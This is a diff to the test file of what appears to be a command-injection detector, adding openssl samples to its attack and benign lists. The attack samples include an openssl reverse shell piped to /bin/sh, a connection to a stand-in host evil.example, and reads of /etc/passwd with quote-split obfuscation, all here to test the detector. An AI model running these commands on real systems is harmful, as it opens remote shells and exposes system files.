@@ -17,6 +17,9 @@ function rceScore(input: string, kind = ARG, paranoia = 1, name = kind === HEADE
 }
 
 const attacks: [string, string][] = [
+  ["openssl with a subcommand and options", "openssl s_client -connect evil.example:443"],
+  ["openssl decoding a file", "openssl enc -d -base64 -in /tmp/x"],
+  ["openssl as a reverse shell after a separator", ";openssl s_client -quiet -connect 10.0.0.1:4444|/bin/sh"],
   ["separator then reader with sensitive file", "; cat /etc/passwd"],
   ["quote-split words", "; cat /et'c/pa'ss'wd"],
   ["paired quotes inside the command word", "w'h'o'am'i"],
@@ -113,6 +116,10 @@ const attacks: [string, string][] = [
 ];
 
 const benign: [string, string][] = [
+  // openssl names a library people report versions and news of (a software inventory, a changelog's heading)
+  ["openssl and its version", "openssl 3.0.13"],
+  ["OpenSSL's version banner", "OpenSSL 3.0.2 15 Mar 2022"],
+  ["openssl in a changelog heading", "openssl security advisory"],
   // (a glob class in a first segment that spells no system directory)
   ["bracket class before no system directory", "/[z///]zz"],
   ["bracket class before a longer name", "/[t///]mpx"],
@@ -319,7 +326,8 @@ describe("command words in prose", () => {
     ["egrep -r pass /etc", true],
     ["openssl >= 1.1.0 (optional, needed for the TLS backend)", false],
     ["curl <= 7.80 (affected by the bug)", false],
-    ["openssl >= 1.1.0", true],
+    // (alone too: openssl is a library people name with its version, as curl is)
+    ["openssl >= 1.1.0", false],
     ["netstat output is a table of the open sockets;", false],
     ["wget keeps the file name from the link;", false],
     ["wget evil;", true],
